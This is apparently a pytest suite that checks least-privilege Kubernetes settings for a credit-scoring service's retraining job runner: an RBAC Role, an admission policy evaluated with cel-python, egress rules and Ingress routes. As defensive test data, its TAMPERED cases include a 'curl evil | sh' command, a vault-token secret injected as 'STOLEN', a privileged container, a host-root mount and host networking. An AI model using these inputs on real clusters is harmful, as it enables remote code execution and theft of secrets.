"""Least privilege on Kubernetes (issue 15): the job runner's Role is exactly what app/jobs/kubernetes.py calls;
the ValidatingAdmissionPolicy (kubernetes/cluster) admits only Jobs that match the training template, evaluated
here with a real CEL interpreter (cel-python) on the Job the runner builds and on tampered copies; egress to the
API server goes to a configured CIDR only; the Ingress publishes neither /metrics nor /docs.

No API server runs here: the policy's schema is checked by kubernetes-validate (1.30 and 1.35) and its
expressions by cel-python, which implements the CEL language but not Kubernetes' own CEL libraries (the policy
uses none)."""

from __future__ import annotations

import copy
import ipaddress
import os
import re
import subprocess

import pytest
import yaml

from app import jobs
from app.jobs.kubernetes import job_from_template
from tests.infra.kubernetes.conftest import K8S, OVERLAYS, VARIANTS, by_kind, kustomize, one
from tests.tools import which
from tests.unit.test_kube_jobs import _finish, kube, kube_settings  # noqa: F401 (fixtures: the API stand-in)

NS = "credit-score"
PLACEHOLDER_CIDR = "192.0.2.1/32"


# ---- the Role: exactly the runner's calls ------------------------------------------------------------------
def _permission(method: str, path: str) -> tuple[str, str, str, str | None]:
    """(apiGroup, resource, verb, resourceName) a REST call needs."""
    m = re.fullmatch(r"/(?:api/v1|apis/(?P<group>[^/]+)/v1)/namespaces/[^/]+/(?P<res>[^/]+)(?:/(?P<name>[^/]+))?"
                     r"(?:/(?P<sub>[^/]+))?", path)
    assert m, path
    resource = m["res"] + (f"/{m['sub']}" if m["sub"] else "")
    verb = {"POST": "create", "DELETE": "delete", "PUT": "update", "PATCH": "patch"}.get(method)
    verb = verb or ("get" if m["name"] else "list")
    return m["group"] or "", resource, verb, m["name"]


def test_the_role_grants_exactly_what_the_job_runner_calls(kube, kube_settings, rendered):  # noqa: F811
    a = jobs.start(kube_settings, reason="api")
    _finish(kube, a["kubernetes_job"], "Complete")
    kube.pods["p"] = {"metadata": {"name": "p", "labels": {"job-name": a["kubernetes_job"]}}, "status": {}}
    jobs.read_status(kube_settings, a["id"])
    jobs.recent(kube_settings)
    # two pods at the same moment: the later Job deletes itself

    def other_pod_was_faster():
        kube.on_create = None
        kube.jobs["credit-score-retrain-other"] = {"metadata": {
            "name": "credit-score-retrain-other", "creationTimestamp": "2000-01-01T00:00:00Z",
            "labels": {"credit-score.io/retrain-job-id": "other", "credit-score.io/retrain": "true"}}, "status": {}}
    kube.on_create = other_pod_was_faster
    with pytest.raises(jobs.JobBusy):
        jobs.start(kube_settings, reason="api")
    used = {_permission(method, path) for method, path, _ in kube.calls}
    needed = {(g, r, v) for g, r, v, _ in used}
    assert needed == {("batch", "cronjobs", "get"), ("batch", "jobs", "create"), ("batch", "jobs", "list"),
                      ("batch", "jobs", "delete"), ("", "pods", "list")}, needed
    for name in VARIANTS:
        role = one(rendered[name], "Role", "credit-score-retrain")
        granted = {(g, r, v) for rule in role["rules"] for g in rule["apiGroups"] for r in rule["resources"]
                   for v in rule["verbs"]}
        assert granted == needed, f"{name}: more than needed {granted - needed}, missing {needed - granted}"
        assert all("*" not in rule["verbs"] + rule["resources"] + rule["apiGroups"] for rule in role["rules"])
        cron_rule = next(rule for rule in role["rules"] if rule["resources"] == ["cronjobs"])
        assert cron_rule["resourceNames"] == ["credit-score-train"]
        assert not by_kind(rendered[name], "ClusterRole") and not by_kind(rendered[name], "ClusterRoleBinding")


# ---- the admission policy ----------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def cluster_objects() -> list[dict]:
    return kustomize(K8S / "cluster")


@pytest.mark.parametrize("version", ["1.30", "1.35"])
def test_cluster_objects_validate_strictly(cluster_objects, tmp_path, version):
    exe = which("kubernetes-validate")
    if exe is None:
        pytest.fail("kubernetes-validate not found: install it (requirements-dev.txt)")
    path = tmp_path / "cluster.yaml"
    path.write_text(yaml.safe_dump_all(cluster_objects))
    proc = subprocess.run([exe, "--strict", "-k", version, str(path)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert proc.stdout.count("passed") == 2 == len(cluster_objects)
    kinds = {d["kind"]: d for d in cluster_objects}
    binding = kinds["ValidatingAdmissionPolicyBinding"]
    assert binding["spec"]["policyName"] == kinds["ValidatingAdmissionPolicy"]["metadata"]["name"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    assert binding["spec"]["paramRef"] == {"name": "credit-score-train", "parameterNotFoundAction": "Deny"}
    assert binding["spec"]["matchResources"]["namespaceSelector"]["matchLabels"] == {
        "kubernetes.io/metadata.name": NS}
    assert kinds["ValidatingAdmissionPolicy"]["spec"]["failurePolicy"] == "Fail"
    assert all("namespace" not in d["metadata"] for d in cluster_objects)  # cluster-scoped


class Policy:
    """The ValidatingAdmissionPolicy's CEL, evaluated as the API server does: match conditions, then the
    variables (lazily: one that fails to evaluate fails only the validations that use it), then every
    validation; an evaluation error denies (failurePolicy Fail)."""

    def __init__(self, doc: dict):
        try:
            import celpy
        except ImportError:
            pytest.fail("cel-python not installed (requirements-dev.txt)")
        self.celpy = celpy
        self.env = celpy.Environment()
        self.spec = doc["spec"]

    def _eval(self, expression: str, activation: dict):
        prog = self.env.program(self.env.compile(expression))
        try:
            return prog.evaluate(activation)
        except self.celpy.CELEvalError as e:
            return e

    def review(self, operation: str, obj: dict | None, old: dict | None, params: dict,
               user: str = f"system:serviceaccount:{NS}:credit-score") -> list[str] | None:
        """None when the policy does not apply (match conditions); else the messages of failed validations."""
        celpy = self.celpy
        request = {"operation": operation, "namespace": NS, "userInfo": {"username": user}}
        act = {"request": celpy.json_to_cel(request), "object": celpy.json_to_cel(obj),
               "oldObject": celpy.json_to_cel(old), "params": celpy.json_to_cel(params)}
        for cond in self.spec["matchConditions"]:
            if self._eval(cond["expression"], act) != celpy.celtypes.BoolType(True):
                return None
        variables = {}
        for var in self.spec["variables"]:
            value = self._eval(var["expression"], {**act, "variables": celpy.celtypes.MapType(variables)})
            if not isinstance(value, celpy.CELEvalError):
                variables[celpy.celtypes.StringType(var["name"])] = value
        act["variables"] = celpy.celtypes.MapType(variables)
        return [v["message"] for v in self.spec["validations"]
                if self._eval(v["expression"], act) != celpy.celtypes.BoolType(True)]


@pytest.fixture(scope="module")
def policy(cluster_objects) -> Policy:
    return Policy(next(d for d in cluster_objects if d["kind"] == "ValidatingAdmissionPolicy"))


@pytest.fixture(scope="module")
def prod_cron(rendered) -> dict:
    return one(rendered["prod"], "CronJob", "credit-score-train")


def _tamper(job: dict, change) -> dict:
    bad = copy.deepcopy(job)
    change(bad)
    return bad


def _pod(job: dict) -> dict:
    return job["spec"]["template"]["spec"]


TAMPERED = {
    "another image": lambda j: _pod(j)["containers"][0].update(image="registry.example.com/evil:1"),
    "the serving ServiceAccount": lambda j: _pod(j).update(serviceAccountName="credit-score"),
    "a mounted token": lambda j: _pod(j).update(automountServiceAccountToken=True),
    "another command": lambda j: _pod(j)["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
    "extra arguments": lambda j: _pod(j)["containers"][0].update(args=["--promote", "champion"]),
    "a second container": lambda j: _pod(j)["containers"].append(dict(_pod(j)["containers"][0], name="x")),
    "an init container": lambda j: _pod(j).update(initContainers=[dict(_pod(j)["containers"][0], name="x")]),
    "a secret in the environment": lambda j: _pod(j)["containers"][0]["env"].append(
        {"name": "STOLEN", "valueFrom": {"secretKeyRef": {"name": "vault-token", "key": "token"}}}),
    "a privileged container": lambda j: _pod(j)["containers"][0]["securityContext"].update(privileged=True),
    "a hostPath volume": lambda j: _pod(j)["volumes"].append({"name": "host", "hostPath": {"path": "/"}}),
    "the host network": lambda j: _pod(j).update(hostNetwork=True),
    "no retrain label": lambda j: j["metadata"]["labels"].pop("credit-score.io/retrain"),
    "the template's pod labels dropped": lambda j: j["spec"]["template"]["metadata"]["labels"].pop(
        "app.kubernetes.io/component"),
    "another name": lambda j: j["metadata"].update(name="backup-job"),
    "no deadline": lambda j: j["spec"].update(activeDeadlineSeconds=10**9),
    "retries on a failed gate": lambda j: j["spec"].pop("podFailurePolicy"),
}


# which rule (a word of its message) refuses each
REFUSED_BY = {"another image": "image", "the serving ServiceAccount": "ServiceAccount", "a mounted token": "token",
              "another command": "command", "extra arguments": "command", "a second container": "no others",
              "an init container": "no others", "a secret in the environment": "environment",
              "a privileged container": "security context", "a hostPath volume": "volumes",
              "the host network": "pod security context", "no retrain label": "labels",
              "the template's pod labels dropped": "labels", "another name": "named", "no deadline": "deadline",
              "retries on a failed gate": "failure policy"}


def test_the_policy_admits_the_job_the_runner_builds(policy, prod_cron):
    job = job_from_template(prod_cron, "0123456789abcdef0123456789abcdef", "drift")
    job["metadata"]["namespace"] = NS
    assert policy.review("CREATE", job, None, prod_cron) == []
    # the monitor's ServiceAccount too; anyone else is not matched by this policy at all
    assert policy.review("CREATE", job, None, prod_cron, f"system:serviceaccount:{NS}:credit-score-monitor") == []
    assert policy.review("CREATE", job, None, prod_cron, "kubernetes-admin") is None
    assert policy.review("CREATE", job, None, prod_cron, "system:serviceaccount:other-ns:credit-score") is None


@pytest.mark.parametrize("what", sorted(TAMPERED))
def test_the_policy_refuses_a_job_that_leaves_the_template(policy, prod_cron, what):
    job = job_from_template(prod_cron, "0123456789abcdef0123456789abcdef", "drift")
    refused = policy.review("CREATE", _tamper(job, TAMPERED[what]), None, prod_cron)
    assert refused, f"admitted a Job with {what}"
    # refused by the rule about it, not by all of them at once (an expression that fails for any input)
    assert any(REFUSED_BY[what] in m for m in refused) and len(refused) < 3, refused


def test_the_policy_lets_the_runner_delete_retrain_jobs_only_and_change_none(policy, prod_cron):
    job = job_from_template(prod_cron, "0123456789abcdef0123456789abcdef", "drift")
    assert policy.review("DELETE", None, job, prod_cron) == []
    other = {"metadata": {"name": "nightly-backup", "labels": {"app": "backup"}}, "spec": {}}
    assert policy.review("DELETE", None, other, prod_cron) == ["the job runner deletes retrain Jobs only"]
    assert "the job runner never changes a Job" in policy.review("UPDATE", job, job, prod_cron)


# ---- network: the API server by address only ----------------------------------------------------------------
@pytest.mark.parametrize("name", VARIANTS)
def test_egress_goes_to_named_peers_and_the_api_server_cidr_only(rendered, name):
    for pol in by_kind(rendered[name], "NetworkPolicy"):
        for rule in pol["spec"].get("egress", []):
            assert rule.get("to"), f"{pol['metadata']['name']}: an egress rule to any address {rule}"
            for peer in rule["to"]:
                if "ipBlock" in peer:
                    net = ipaddress.ip_network(peer["ipBlock"]["cidr"])
                    assert net.prefixlen >= 16, f"{pol['metadata']['name']}: {net} is too wide"
    api = one(rendered[name], "NetworkPolicy", "credit-score-kube-api")
    assert api["spec"]["podSelector"]["matchExpressions"] == [
        {"key": "app.kubernetes.io/component", "operator": "In", "values": ["api", "monitor"]}]
    (rule,) = api["spec"]["egress"]
    assert {p["port"] for p in rule["ports"]} == {443, 6443}
    (peer,) = rule["to"]
    cidr = peer["ipBlock"]["cidr"]
    if name in OVERLAYS:  # every overlay sets its cluster's address; base alone stays fail-closed
        assert cidr != PLACEHOLDER_CIDR, f"{name} does not set the API server's CIDR"
        patch = (K8S / "overlays" / name / "kustomization.yaml").read_text()
        assert re.search(rf"path: /spec/egress/0/to/0/ipBlock/cidr\s+value: {re.escape(cidr)}", patch)
    else:
        assert cidr == PLACEHOLDER_CIDR
    # the 443/6443 ports appear in no other policy: the training pods cannot reach the API server
    for pol in by_kind(rendered[name], "NetworkPolicy"):
        if pol["metadata"]["name"] != "credit-score-kube-api":
            ports = {p["port"] for r in pol["spec"].get("egress", []) for p in r.get("ports", [])}
            assert not ports & {443, 6443}, pol["metadata"]["name"]


def test_the_api_server_cidr_is_a_patch_away(tmp_path):
    """An overlay of one's own sets the CIDR with the same patch the shipped overlays use."""
    (tmp_path / "kustomization.yaml").write_text(yaml.safe_dump({
        "apiVersion": "kustomize.config.k8s.io/v1beta1", "kind": "Kustomization",
        "resources": [os.path.relpath(K8S / "base", tmp_path)],
        "patches": [{"target": {"kind": "NetworkPolicy", "name": "credit-score-kube-api"},
                     "patch": "- op: replace\n  path: /spec/egress/0/to/0/ipBlock/cidr\n  value: 10.1.2.3/32"}]}))
    api = one(kustomize(tmp_path), "NetworkPolicy", "credit-score-kube-api")
    assert api["spec"]["egress"][0]["to"] == [{"ipBlock": {"cidr": "10.1.2.3/32"}}]


# ---- the public Ingress --------------------------------------------------------------------------------------
def _routed(ingress: dict, path: str) -> bool:
    for rule in ingress["spec"]["rules"]:
        for p in rule["http"]["paths"]:
            if p["pathType"] == "Exact" and path == p["path"]:
                return True
            if p["pathType"] == "Prefix":
                prefix = p["path"].rstrip("/")
                if path == prefix or path.startswith(prefix + "/") or prefix == "":
                    return True
    return False


PUBLIC = ("/predict", "/predict/batch", "/v2/models/credit-score/infer", "/v2/health/ready", "/feedback",
          "/model/info", "/health", "/ready")
INTERNAL = ("/metrics", "/docs", "/docs/static/swagger-ui.css", "/openapi.json", "/model/retrain",
            "/model/retrain/0123abcd")


@pytest.mark.parametrize("name", VARIANTS)
def test_the_ingress_publishes_the_api_and_not_metrics_or_docs(rendered, name):
    ingresses = by_kind(rendered[name], "Ingress")
    assert ingresses
    for ing in ingresses:
        for path in PUBLIC:
            assert _routed(ing, path), f"{ing['metadata']['name']} does not route {path}"
        for path in INTERNAL:
            assert not _routed(ing, path), f"{ing['metadata']['name']} publishes {path}"
    assert _routed({"spec": {"rules": [{"http": {"paths": [{"path": "/", "pathType": "Prefix"}]}}]}}, "/metrics")
